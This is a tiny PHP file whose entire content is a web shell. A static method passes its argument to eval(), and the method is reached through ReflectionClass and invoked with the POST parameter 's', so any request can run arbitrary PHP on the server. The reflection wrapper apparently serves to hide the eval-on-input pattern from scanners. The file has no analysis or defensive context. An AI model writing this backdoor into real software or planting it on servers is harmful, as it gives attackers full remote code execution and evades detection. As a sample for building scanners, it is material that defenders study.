<?php
// A method taken through ReflectionClass::getMethod and invoked with the posted code.
class Hooks
{
    public static function fire($snippet) { return eval($snippet); }
}

(new ReflectionClass(Hooks::class))->getMethod('fire')->invoke(null, $_POST['s']);
